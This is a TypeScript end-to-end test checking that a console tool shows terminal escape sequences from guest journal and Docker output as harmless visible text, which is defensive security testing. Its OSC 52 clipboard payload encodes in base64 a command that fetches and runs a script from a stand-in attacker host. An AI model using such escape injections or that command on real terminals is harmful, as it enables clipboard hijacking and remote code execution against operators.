/**
 * Guests that print terminal escapes, through the real sshd test host: a journal MESSAGE
 * holding OSC 0 (retitle the window) and OSC 52 (write the operator's clipboard), and a Docker
 * host whose `docker ps` reports a container whose name and image hold the same plus a CSI
 * that clears the screen. `--once` tables and JSON show them as visible `^[` text; the live
 * console in tmux (with tmux set to let programs write its clipboard) shows them the same way,
 * and the pane keeps its title and the clipboard stays empty.
 */
import {writeFileSync} from 'node:fs';
import {join} from 'node:path';
import {afterAll, beforeAll, describe, expect, it} from 'vitest';
import {requireE2E} from '../host/gate.js';
import {startTestHost, type TestHost} from '../host/harness.js';
import {swapCommand, writePayload} from '../host/hostile.js';
import {consoleCommand, projectRoot, proxdeckOnHost} from '../host/cli.js';
import {hasTmux, testTmux} from '../host/tmux.js';

const gate = requireE2E('hostile-text');

const TITLE = '\x1b]0;PWNED-TITLE\x07';
const CLIPBOARD = '\x1b]52;c;Y3VybCAtcyBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==\x07';
/** Anything a terminal would act on: C0 but tab and newline, DEL, C1. */
const CONTROL = /[\x00-\x08\x0b-\x1f\x7f-\x9f]/;

describe.skipIf(gate.skip)('guest text with terminal escapes, through the sshd test host', () => {
	let host: TestHost;

	beforeAll(async () => {
		gate.assert();
		host = await startTestHost();
		const record = JSON.stringify({
			__REALTIME_TIMESTAMP: String(Date.now() * 1000),
			PRIORITY: '3',
			SYSLOG_IDENTIFIER: 'evil',
			_PID: '666',
			_HOSTNAME: 'pve',
			MESSAGE: `hello ${TITLE} and ${CLIPBOARD} bye`,
		});
		const journal = writePayload(host, 'journal.json', `${record}\n`);
		// Printed before the real journal, in the one-shot read and in the followed stream alike.
		swapCommand(host, 'journalctl', [{startsWith: '-o json', run: `cat '${journal}'; exec "$REAL" "$@"`}]);
		const container = JSON.stringify({
			Command: '"/init"',
			CreatedAt: '2026-11-20 10:00:00 +0000 UTC',
			ID: 'e71f5c0ffee1',
			Labels: '',
			LocalVolumes: '0',
			Mounts: '',
			Names: `evil${TITLE}`,
			Image: `nginx\x1b[2J\x1b[H${CLIPBOARD}`,
			Networks: 'bridge',
			Ports: '',
			RunningFor: '3 days ago',
			Size: '0B',
			State: 'running',
			Status: 'Up 3 days',
		});
		const docker = writePayload(host, 'docker.json', `${container}\n`);
		swapCommand(host, 'pct', [{startsWith: 'exec 111 -- docker ps', run: `"$REAL" "$@"; cat '${docker}'`}]);
	}, 120_000);
	afterAll(async () => {
		await host?.close();
	});

	const once = async (...args: string[]): Promise<string> => (await proxdeckOnHost(host, ['--once', ...args])).stdout;

	it('--once --pane logs prints the journal message with its escapes shown, not sent', async () => {
		const out = await once('--pane', 'logs');
		expect(out).toContain('hello ^[]0;PWNED-TITLE^G and ^[]52;c;');
		expect(out).not.toMatch(CONTROL);
	}, 60_000);

	it("--once tables and --once --json show the container's name and image as visible text", async () => {
		const tables = await once('--pane', 'guests');
		expect(tables).toContain('nginx^[[2J^[[H^[]52;c;');
		expect(tables).toContain('evil^[]0;PWNED-TITLE^G');
		expect(tables).not.toMatch(CONTROL);
		const json = await once('--json');
		expect(json).not.toMatch(CONTROL);
		const snapshot = JSON.parse(json) as {guests: {vmid: number; containers?: {name: string; image: string}[]}[]};
		const evil = snapshot.guests.find((g) => g.vmid === 111)?.containers?.find((c) => c.name.startsWith('evil'));
		// What `jq -r .guests[].containers[].image` would print: visible text, no escape.
		expect(evil?.image).toBe('nginx^[[2J^[[H^[]52;c;Y3VybCAtcyBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==^G');
	}, 60_000);

	describe.skipIf(!hasTmux)('the live console in tmux', () => {
		const server = testTmux('pd-hostile');
		const tmux = server.run;
		const screenWith = (pattern: RegExp, what: string): Promise<string> => server.screenWith('console', pattern, what);
		afterAll(() => server.kill());

		it('keeps the pane title and the clipboard, and shows the escapes as text in the logs pane and the detail view', async () => {
			// tmux lets programs set the clipboard (OSC 52) and the pane title (OSC 0/2): the attack would land.
			const conf = join(host.dir, 'tmux.conf');
			writeFileSync(conf, 'set -g set-clipboard on\nset -g history-limit 0\n');
			tmux(
				'-f',
				conf,
				'new-session',
				'-d',
				'-s',
				'console',
				'-x',
				'200',
				'-y',
				'50',
				'-c',
				projectRoot,
				consoleCommand(host),
			);
			tmux('select-pane', '-t', 'console', '-T', 'operator');
			await screenWith(/1 Guests/, 'the console');
			// Filtered to the hostile unit: the followed journal keeps printing, and on a slow
			// machine the line would have scrolled out of the pane before it is looked at.
			tmux('send-keys', '-t', 'console', '4', '/');
			tmux('send-keys', '-t', 'console', '-l', 'evil');
			tmux('send-keys', '-t', 'console', 'Enter');
			await screenWith(/PWNED-TITLE/, 'the hostile journal line');
			const logs = await screenWith(/\^\[\]0;PWNED-TITLE\^G/, 'the escape shown as text');
			expect(logs).toContain('^[]52;c;');
			// The guest detail of the Docker host, with the hostile container's image.
			tmux('send-keys', '-t', 'console', '1', '/');
			tmux('send-keys', '-t', 'console', '-l', 'docker');
			tmux('send-keys', '-t', 'console', 'Enter');
			await screenWith(/›.*111 docker/, 'the Docker host selected');
			tmux('send-keys', '-t', 'console', 'Enter');
			await screenWith(/nginx\^\[\[2J/, 'the detail view with the image as text');
			expect(tmux('display-message', '-p', '-t', 'console', '#{pane_title}').trim()).toBe('operator');
			expect(tmux('list-buffers')).toBe('');
			tmux('send-keys', '-t', 'console', 'C-c');
		}, 120_000);
	});
});
